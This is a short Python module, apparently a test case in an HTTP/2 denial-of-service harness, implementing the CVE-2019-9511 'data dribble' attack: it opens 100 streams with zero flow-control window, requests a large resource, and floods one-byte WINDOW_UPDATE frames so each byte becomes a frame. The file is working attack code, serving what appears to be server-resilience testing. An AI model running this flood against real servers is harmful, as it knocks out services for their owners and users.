"""A large response on each of 100 streams, whose windows grow by one byte at a time
(CVE-2019-9511, data dribble): each byte is a frame."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack(configurations=("static", "deployments"))
STREAMS = range(1, 200, 2)


async def run(target):
    asked = b"".join(frames.request(stream, frames.head(b"/large")) for stream in STREAMS)
    batch = b"".join(frames.window_update(stream, 1) for stream in STREAMS) * 4
    return await target.flood(4, frames.opening({frames.INITIAL_WINDOW: 0}) + asked, lambda: repeat(batch))
